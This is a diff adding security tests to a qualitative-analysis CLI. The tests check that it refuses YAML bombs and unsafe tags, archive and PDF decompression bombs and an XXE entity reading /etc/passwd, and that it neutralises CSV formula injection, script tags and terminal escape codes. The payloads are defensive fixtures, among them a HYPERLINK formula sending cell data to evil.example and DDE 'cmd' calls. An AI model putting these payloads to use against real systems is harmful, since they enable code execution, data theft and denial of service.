@@ -24,6 +24,7 @@ from reliability.attacks import (
     code_tree,
     docx,
     docx_members,
+    pdf_with_bomb,
     plain_zip,
     qde,
     qdpx,
@@ -474,3 +475,300 @@ def test_a_named_pipe_is_refused_instead_of_waiting_forever(project: Path, tmp_p
     fifo = tmp_path / "kii.txt"
     os.mkfifo(fifo)
     refused(limited(["import", "-p", str(project), str(fifo)], timeout=20), "regular file")
+
+
+# ---------------------------------------------------------------------------- YAML everywhere
+
+
+def test_a_yaml_bomb_in_a_findings_file_is_refused_quickly(project: Path, tmp_path: Path) -> None:
+    path = tmp_path / "findings.yaml"
+    path.write_text(yaml_bomb(9, top="findings"), encoding="utf-8")
+    before = snapshot(project)
+    refused(limited(["findings", "import", "-p", str(project), str(path)], timeout=30), "alias")
+    assert snapshot(project) == before
+
+
+@pytest.mark.parametrize("content, needle", [
+    ("findings: !!python/object/apply:os.system ['echo pwned']\n", "plain YAML"),
+    ("findings:\n  - &f {id: F1, criterion: relevance, statement: x}\n  - *f\n", "alias"),
+    ("findings: " + "[" * 150 + "]" * 150 + "\n", "levels deep"),
+])
+def test_unsafe_findings_yaml_is_refused(content: str, needle: str, project: Path, tmp_path: Path,
+                                         capsys: pytest.CaptureFixture[str]) -> None:
+    path = tmp_path / "findings.yaml"
+    path.write_text(content, encoding="utf-8")
+    before = snapshot(project)
+    code, _, err = run_cli(capsys, "findings", "import", "-p", str(project), str(path))
+    assert_clean_error(code, err, what=needle)
+    assert needle in err and "pwned" not in err
+    assert snapshot(project) == before
+
+
+def test_a_triangulation_rule_with_aliases_is_refused(project: Path, tmp_path: Path,
+                                                      capsys: pytest.CaptureFixture[str]) -> None:
+    path = tmp_path / "rule.yaml"
+    path.write_text(yaml_bomb(9, top="levels"), encoding="utf-8")
+    before = snapshot(project)
+    code, _, err = run_cli(capsys, "triangulation", "-p", str(project), "--set-rule", str(path))
+    assert_clean_error(code, err, what="rule")
+    assert snapshot(project) == before
+
+
+def _deep_codebook(levels: int) -> str:
+    lines = ["codes:"]
+    for k in range(levels + 1):
+        pad = "  " * (2 * k)
+        lines += [f"{pad}  - id: c{k}", f"{pad}    name: Level {k}", f"{pad}    definition: level {k}"]
+        if k < levels:
+            lines.append(f"{pad}    children:")
+    return "\n".join(lines) + "\n"
+
+
+@pytest.mark.parametrize("style", ["nested", "parent"])
+def test_a_codebook_deeper_than_the_limit_gets_its_own_message(style: str, project: Path, tmp_path: Path,
+                                                               capsys: pytest.CaptureFixture[str]) -> None:
+    path = tmp_path / "deep.yaml"
+    if style == "nested":
+        path.write_text(_deep_codebook(40), encoding="utf-8")
+    else:
+        rows = ["codes:", "  - {id: c0, name: C0, definition: d}"]
+        rows += [f"  - {{id: c{k}, name: C{k}, definition: d, parent: c{k - 1}}}" for k in range(1, 41)]
+        path.write_text("\n".join(rows) + "\n", encoding="utf-8")
+    before = snapshot(project)
+    code, _, err = run_cli(capsys, "codebook", "set", "-p", str(project), str(path))
+    assert_clean_error(code, err, what=style)
+    assert "levels" in err and "cycle" not in err
+    assert snapshot(project) == before
+    path.write_text(_deep_codebook(32), encoding="utf-8")
+    code, _, err = run_cli(capsys, "codebook", "set", "-p", str(project), str(path))
+    assert code == 0, err
+    still_usable(project, capsys)
+
+
+# ---------------------------------------------------------------------------- what leaves qualcode
+
+
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+@pytest.fixture
+def poisoned(project: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Path:
+    """A project whose transcript, case sheet and codings carry formulas and HTML."""
+    path = tmp_path / "KII-02.txt"
+    turns = ["Interviewer: What did the factory say about it?"]
+    turns += [f"Ms Hoa: {f} said the manager about the new wage scale." for f in FORMULAS]
+    turns += ["Ms Hoa: <script>alert('x')</script> and <img src=x onerror=alert(1)> [click](javascript:alert(1))"]
+    path.write_text("\n\n".join(turns) + "\n", encoding="utf-8")
+    cases = tmp_path / "cases.csv"
+    cases.write_text("transcript_id,speaker,case_id,stakeholder_group,location\n"
+                     "KII-02,Ms Hoa,KII-02,\"=cmd|' /C calc'!A0\",@SUM(1+1)\n", encoding="utf-8")
+    code, _, err = run_cli(capsys, "import", "-p", str(project), str(path), "--cases", str(cases))
+    assert code == 0, err
+    with Project.open(project) as p:
+        for seg in p.segments("KII-02", include_interviewer=False):
+            p.add_coding(seg["id"], "effectiveness", coder="ana")
+    return project
+
+
+def _formula_cells(rows: list[list[str]]) -> list[str]:
+    return [c for row in rows for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+def test_no_csv_cell_qualcode_writes_can_run_as_a_formula(poisoned: Path, tmp_path: Path,
+                                                          capsys: pytest.CaptureFixture[str]) -> None:
+    import csv
+    import io
+
+    code, _, err = run_cli(capsys, "export", "quotes", "-p", str(poisoned), "--format", "csv", "--out",
+                           str(tmp_path / "q"))
+    assert code == 0, err
+    with open(tmp_path / "q" / "quotes.csv", encoding="utf-8-sig", newline="") as fh:
+        quotes = list(csv.reader(fh))
+    assert _formula_cells(quotes) == []
+    assert any(c.startswith("'=HYPERLINK") for row in quotes for c in row)  # kept, as text
+    outputs = []
+    for argv in (["matrix", "--cols", "location", "--csv"], ["matrix", "--cols", "stakeholder_group", "--csv"],
+                 ["matrix", "--cooccurrence", "--csv"]):
+        code, out, err = run_cli(capsys, *argv, "-p", str(poisoned))
+        assert code == 0, err
+        outputs.append(out)
+        assert _formula_cells(list(csv.reader(io.StringIO(out)))) == [], argv
+    assert "'@SUM(1+1)" in outputs[0] and "'=cmd" in outputs[1]
+
+
+def test_markdown_and_html_exports_show_html_in_data_as_text(poisoned: Path, tmp_path: Path,
+                                                             capsys: pytest.CaptureFixture[str]) -> None:
+    code, _, err = run_cli(capsys, "export", "quotes", "-p", str(poisoned), "--format", "md", "--out",
+                           str(tmp_path / "q"))
+    assert code == 0, err
+    md = (tmp_path / "q" / "quotes.md").read_text(encoding="utf-8")
+    assert "<script>" not in md and "<img" not in md and "](javascript" not in md
+    assert "&lt;script&gt;" in md
+    code, _, err = run_cli(capsys, "report", "-p", str(poisoned), "--out", str(tmp_path / "r.html"))
+    assert code == 0, err
+    html = (tmp_path / "r.html").read_text(encoding="utf-8")
+    assert "<script>alert" not in html and "<img src=x" not in html
+
+
+@pytest.mark.parametrize("where", ["folder", "read-only", "missing-parent-of-file"])
+def test_exports_to_a_place_that_cannot_be_written_are_one_line(where: str, project: Path, tmp_path: Path,
+                                                                capsys: pytest.CaptureFixture[str],
+                                                                monkeypatch: pytest.MonkeyPatch) -> None:
+    if where == "folder":
+        target = tmp_path / "out"
+        target.mkdir()
+    elif where == "read-only":
+        locked = tmp_path / "locked"
+        locked.mkdir()
+        locked.chmod(0o500)
+        target = locked / "findings.yaml"
+    else:
+        blocker = tmp_path / "a-file"
+        blocker.write_text("x")
+        target = blocker / "findings.yaml"
+    if where == "read-only" and os.access(target.parent, os.W_OK):
+        # root may write anywhere: the file system's refusal is played by open() instead
+        import builtins
+        import io
+
+        real_open = builtins.open
+
+        def guarded(file: object, mode: str = "r", *args: object, **kwargs: object) -> object:
+            if str(file).startswith(str(target.parent)) and any(m in mode for m in "wax+"):
+                raise PermissionError(13, "Permission denied", str(file))
+            return real_open(file, mode, *args, **kwargs)  # type: ignore[call-overload]
+
+        monkeypatch.setattr(builtins, "open", guarded)
+        monkeypatch.setattr(io, "open", guarded)
+    for argv in (["findings", "export", "--out", str(target)], ["report", "--out", str(target) + ".html"],
+                 ["refi", "export", "-o", str(target) + ".qdpx"],
+                 ["export", "quotes", "--format", "csv", "--out", str(target)]):
+        if where == "folder" and argv[0] in ("report", "refi"):
+            (tmp_path / ("out.html" if argv[0] == "report" else "out.qdpx")).mkdir(exist_ok=True)
+        code, _, err = run_cli(capsys, *argv, "-p", str(project))
+        if where == "folder" and argv[0] == "export":
+            assert code == 0, err  # a folder is what the quote bank wants
+            continue
+        assert_clean_error(code, err, what=" ".join(argv[:2]))
+        assert "cannot" in err
+
+
+def test_doctor_finds_units_outside_their_text(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    import sqlite3
+
+    conn = sqlite3.connect(project / "qualcode.db")
+    conn.execute("DROP TRIGGER IF EXISTS segments_no_update")  # as a damaged or hand-edited file would be
+    first = conn.execute("SELECT id FROM segments ORDER BY id LIMIT 1").fetchone()[0]
+    try:
+        conn.execute("UPDATE segments SET start = -50 WHERE id = ?", (first,))
+        conn.execute("UPDATE segments SET end = 1000000000 WHERE id = ?", (first + 1,))
+        conn.commit()
+    finally:
+        conn.close()
+    code, out, _ = run_cli(capsys, "doctor", "-p", str(project))
+    assert code == 1
+    assert "2 unit(s) lie outside their transcript's text" in out
+
+
+# ---------------------------------------------------------------------------- case sheets and tables
+
+
+def test_an_xlsx_case_sheet_bomb_is_refused_with_bounded_memory(project: Path, tmp_path: Path) -> None:
+    path = tmp_path / "cases.xlsx"
+    path.write_bytes(zip_with_bomb({"[Content_Types].xml": "<Types/>"}, "xl/worksheets/sheet1.xml", 2048))
+    before = snapshot(project)
+    refused(limited(["import", "-p", str(project), "--cases", str(path)]), "cases.xlsx")
+    assert snapshot(project) == before
+
+
+def test_an_xlsx_case_sheet_with_entities_is_refused(project: Path, tmp_path: Path,
+                                                     capsys: pytest.CaptureFixture[str]) -> None:
+    import openpyxl
+
+    wb = openpyxl.Workbook()
+    wb.active.append(["transcript_id", "case_id"])
+    wb.active.append(["KII-01", "KII-01"])
+    good = tmp_path / "good.xlsx"
+    wb.save(good)
+    with zipfile.ZipFile(good) as z:
+        members = {n: z.read(n) for n in z.namelist()}
+    sheet = members["xl/worksheets/sheet1.xml"].decode()
+    members["xl/worksheets/sheet1.xml"] = ('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + sheet).encode()
+    path = tmp_path / "cases.xlsx"
+    path.write_bytes(plain_zip(members))  # type: ignore[arg-type]
+    code, _, err = run_cli(capsys, "import", "-p", str(project), "--cases", str(path))
+    assert_clean_error(code, err, what="xlsx entity")
+    assert "document type" in err and "root:" not in err
+
+
+def test_control_characters_in_a_case_sheet_and_a_codings_table_are_removed_and_reported(
+        project: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    cases = tmp_path / "cases.csv"
+    cases.write_text("transcript_id,speaker,case_id,location\nKII-01,Ms. Lan,KII-01,Hai \x1b[2JPhong\x07\n",
+                     encoding="utf-8")
+    code, out, err = run_cli(capsys, "import", "-p", str(project), "--cases", str(cases))
+    assert code == 0, err
+    assert "control or non-character" in out
+    table = tmp_path / "KII-01.csv"
+    table.write_text("quote,code,coder,memo\n\"Every complaint now gets a number\",effectiveness,bo\x1b[8mb,"
+                     "\"note \x1b]0;owned\x07\"\n", encoding="utf-8")
+    code, out, err = run_cli(capsys, "codings", "import", "-p", str(project), str(table))
+    assert code == 0, err
+    assert "control or non-character" in out
+    with Project.open(project) as p:
+        assert {c["id"]: c["attributes"].get("location") for c in p.cases()}["KII-01"] == "Hai [2JPhong"
+        assert {c["coder"] for c in p.codings()} == {"bo[8mb"}
+
+
+def test_nothing_printed_to_the_terminal_carries_a_control_character(project: Path, tmp_path: Path,
+                                                                    capsys: pytest.CaptureFixture[str]) -> None:
+    import sqlite3
+
+    # a project written before control characters were removed at import, or edited by hand
+    conn = sqlite3.connect(project / "qualcode.db")
+    conn.execute("UPDATE cases SET attributes = ? WHERE id = 'KII-01'",
+                 (json.dumps({"stakeholder_group": "Fac\x1b[31mtory", "location": "\x9b2J"}),))
+    conn.commit()
+    conn.close()
+    with Project.open(project) as p:
+        seg = p.segments("KII-01", include_interviewer=False)[0]
+        p.set_memo("segment", str(seg["id"]), "memo \x1b]0;pwned\x07 end", coder="e\x1bvil")
+        p.add_coding(seg["id"], "effectiveness", coder="e\x1bvil")
+    for argv in (["cases"], ["memo", "list"], ["codings", "list"], ["coders"], ["segments", "--transcript", "KII-01"],
+                 ["matrix", "--cols", "location"], ["cases", "--json"]):
+        code, out, err = run_cli(capsys, *argv, "-p", str(project))
+        assert code == 0, err
+        assert not any(ch in out + err for ch in "\x1b\x07\x9b"), argv
+    code, _, err = run_cli(capsys, "import", "-p", str(project), str(tmp_path / "no\x1b[2Jsuch\nfile.txt"))
+    assert_clean_error(code, err, what="file name")
+    assert "\x1b" not in err
+
+
+
+# ---------------------------------------------------------------------------- desk-review documents
+
+
+def test_a_pdf_bomb_is_refused_with_bounded_memory(project: Path, tmp_path: Path) -> None:
+    path = tmp_path / "report.pdf"
+    path.write_bytes(pdf_with_bomb(2048))  # 2 MB on disk, a 2 GB content stream
+    before = snapshot(project)
+    refused(limited(["import", "-p", str(project), "--document", str(path)]), "PDF bombs")
+    assert snapshot(project) == before
+
+
+def test_a_word_document_bomb_is_refused_with_bounded_memory(project: Path, tmp_path: Path) -> None:
+    members = docx_members(["Final evaluation report", "The project trained 400 line leaders in 2023."])
+    members.pop("word/document.xml")
+    path = tmp_path / "report.docx"
+    path.write_bytes(zip_with_bomb(members, "word/document.xml", 2048))
+    before = snapshot(project)
+    refused(limited(["import", "-p", str(project), "--document", str(path)]), "report.docx")
+    assert snapshot(project) == before
+
+
+@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="named pipes are POSIX")
+def test_a_named_pipe_as_a_document_is_refused(project: Path, tmp_path: Path) -> None:
+    fifo = tmp_path / "report.pdf"
+    os.mkfifo(fifo)
+    refused(limited(["import", "-p", str(project), "--document", str(fifo)], timeout=20), "regular file")
